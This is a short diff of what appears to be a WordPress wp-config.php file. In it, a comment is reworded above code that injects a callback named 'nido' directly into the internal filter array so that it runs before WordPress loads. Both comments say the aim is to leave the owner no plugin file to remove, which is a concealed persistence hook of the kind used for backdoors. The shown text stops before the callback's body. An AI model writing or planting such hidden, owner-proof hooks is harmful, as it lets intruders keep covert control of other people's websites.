@@ -45,7 +45,7 @@ define( 'CONCATENATE_SCRIPTS', false );
 define( 'WP_POST_REVISIONS', 10 );
 define( 'WP_DEBUG', false );
 
-// A hook that exists before WordPress does: the site's owner has no file of it to remove.
+// Registers the plugin before WordPress loads, so that the site has no plugin file that its owner could remove.
 $wp_filter['muplugins_loaded'][ PHP_INT_MIN ]['nido'] = array(
 	'accepted_args' => 0,
 	'function'      => static function () {
